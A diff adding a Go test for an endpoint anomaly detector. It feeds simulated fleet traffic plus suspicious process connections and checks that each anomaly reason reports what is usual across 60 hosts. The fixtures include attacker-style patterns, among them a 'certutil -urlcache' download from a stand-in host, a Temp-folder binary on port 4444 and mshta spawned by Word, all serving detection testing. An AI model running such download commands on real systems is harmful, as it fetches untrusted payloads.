@@ -131,6 +131,41 @@ func TestWhatSpeaksAgainstAProcess(t *testing.T) {
 	}
 }
 
+// On a day without history each reason has what is usual beside it, from the fleet of the
+// day, and says so: 60 hosts connect, of which one has what is odd.
+func TestWhatIsUsual(t *testing.T) {
+	const url = "updates.example"
+	list := append(browsing(rand.New(rand.NewPCG(1, 1)), day(20), 60, 3000),
+		odd(connection{file: "helper.exe", path: `C:\Windows\Temp\helper.exe`, parent: "explorer.exe", port: "4444", command: `helper.exe cmd -hidden`}),
+		odd(connection{file: "certutil.exe", path: `C:\Windows\System32\certutil.exe`, parent: "cmd.exe", command: `certutil -urlcache -f http://x.example/a b`, url: url}),
+		odd(connection{file: "mshta.exe", path: `C:\Windows\System32\mshta.exe`, parent: "winword.exe", url: url}),
+		odd(connection{file: "wscript.exe", path: `C:\Windows\System32\wscript.exe`, parent: "cmd.exe", url: url}),
+		odd(connection{file: "chrome.exe", path: `C:\Users\x\AppData\Roaming\chrome.exe`, parent: "cmd.exe", url: url}),
+		odd(connection{file: "setup-7.exe", path: `C:\Users\x\Downloads\setup-7.exe`, parent: "explorer.exe", url: url}))
+	p := DefaultParams()
+	p.Score = 0
+	seen := map[string]anomaly.Reason{}
+	for _, f := range finish(t, p, day(20), added(list...), nil) {
+		for _, r := range f.AnomalyReasons {
+			if r.Usual == "" {
+				t.Errorf("%s: %+v", f.Entity, r)
+			}
+			if f.Score > 0.3 {
+				seen[r.Name] = r
+			}
+		}
+	}
+	for name, want := range map[string]string{
+		"rare-process": "chrome.exe on 60 of them", "shell": "some on all of 60 hosts", "system-tool": "none on 59 of 60 hosts", "shell-on-command-line": "none on ",
+		"command-line": "none on 59 of 60 hosts", "temporary-folder": "a system folder (60 hosts)", "download-folder": "a system folder (60 hosts)",
+		"profile-folder": "an installed folder (", "unusual-port": "443/tcp (", "address-without-name": "a name, in ", "unusual-parent": "",
+	} {
+		if r, ok := seen[name]; !ok || !strings.HasPrefix(r.Usual, want) {
+			t.Errorf("%s: %+v", name, r)
+		}
+	}
+}
+
 // A port that three programs use is not unusual.
 func TestPortsOfSeveralPrograms(t *testing.T) {
 	usual := browsing(rand.New(rand.NewPCG(1, 1)), day(20), 100, 3000)
